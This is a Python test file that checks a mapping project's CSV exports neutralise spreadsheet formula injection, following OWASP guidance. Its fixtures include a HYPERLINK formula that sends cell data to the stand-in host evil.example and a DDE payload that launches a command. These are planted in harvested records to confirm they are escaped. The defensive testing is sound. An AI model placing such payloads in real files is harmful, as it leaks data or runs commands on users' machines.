"""CSV formula injection (OWASP): no CSV the product writes for people lets a spreadsheet run a
cell as a formula, and the national-standard CSV stays valid against its schema.

Hostile values are planted in a real harvest: a venue name, a rejected row's value, a duplicate
candidate's name.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from test_bad_input import CNFS, FILES, FS, baseline, cnfs_variant, harvest_settings, serve  # noqa: F401

from inclusion_map.export.bundle import export_layer
from inclusion_map.harvest.pipeline import run_harvest
from inclusion_map.report_files import safe_cell
from inclusion_map.stores import open_store

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")'


@pytest.mark.parametrize(("value", "expected"), [
    (FORMULA, "'" + FORMULA), ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("+33145000000", "+33145000000"), ("-1.5534", "-1.5534"), ("+33 1 45 00 00 00", "+33 1 45 00 00 00"),
    ("Maison des solidarités", "Maison des solidarités"), ("", ""), (12, 12), (None, None),
])  # fmt: skip
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def rows_of(data: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"))))


def test_every_csv_for_people_neutralises_formulas(baseline, testdata):  # noqa: F811
    def plant(records):
        target = next(r for r in records if r["id"] == "62b045e48255a806e299e387")  # a Gentilly venue
        target["nom"] = FORMULA
        bad = next(r for r in records if str(r.get("code_postal", "")).startswith("94") and r is not target)
        bad["horaires"] = "@SUM(A1:A9)"  # not OSM hours: dropped and reported with its value

    url = serve(baseline.server, "/hostile/cnfs.json", cnfs_variant(testdata, plant), "application/json")
    settings = harvest_settings(baseline.server, baseline.tmp_path, {**baseline.urls, CNFS: url})
    report = run_harvest(settings)
    # The venue's name stays as published in the store; only CSV cells are neutralised.
    venues = open_store(settings.store_location).read("venues")
    assert FORMULA in set(venues["nom"])

    out = io.BytesIO()
    export_layer(settings, "venues", "csv", out)
    names = [r["nom"] for r in rows_of(out.getvalue())]
    assert "'" + FORMULA in names and FORMULA not in names
    assert any(r["telephone"].startswith("+33") for r in rows_of(out.getvalue()))  # phones untouched

    rejections = Path(report.files["rejections"]).read_text(encoding="utf-8")
    assert "'@SUM(A1:A9)" in rejections and ",@SUM" not in rejections

    for row in rows_of(Path(report.files["review"]).read_bytes()):
        for value in row.values():
            assert not value.startswith(("=", "@")), row


def test_standard_csv_with_neutralised_cells_is_still_valid(baseline, testdata, tmp_path):  # noqa: F811
    from frictionless import Resource, Schema, system

    store = baseline.store
    venues = store.read("venues")
    venues.loc[venues.index[0], "nom"] = FORMULA
    venues.loc[venues.index[1], "presentation_resume"] = "-1 fois par semaine"
    store.write("venues", venues, store.info("venues"))
    settings = harvest_settings(baseline.server, baseline.tmp_path, baseline.urls)
    out = tmp_path / "venues.csv"
    with out.open("wb") as f:
        export_layer(settings, "venues", "csv", f)
    with system.use_context(trusted=True):
        schema = Schema(str(testdata / "schema/standard-mediation-num_schema.json"))
        result = Resource(str(out), schema=schema).validate()
    assert result.valid, result.flatten(["rowNumber", "fieldName", "type", "note"])[:10]
    text = out.read_text(encoding="utf-8")
    assert "'" + FORMULA.replace('"', '""') in text and "'-1 fois par semaine" in text


def test_plain_csv_of_other_layers_neutralises_formulas(baseline):  # noqa: F811
    import pandas as pd

    from inclusion_map.export.csv_plain import PlainCsvExporter

    out = io.BytesIO()
    PlainCsvExporter().write(pd.DataFrame({"nom": [FORMULA, "Orly"], "population": [-3, 12]}), out)
    rows = rows_of(out.getvalue())
    assert rows[0]["nom"] == "'" + FORMULA and rows[1]["nom"] == "Orly" and rows[0]["population"] == "-3"
    json.dumps(rows)  # plain text, nothing else
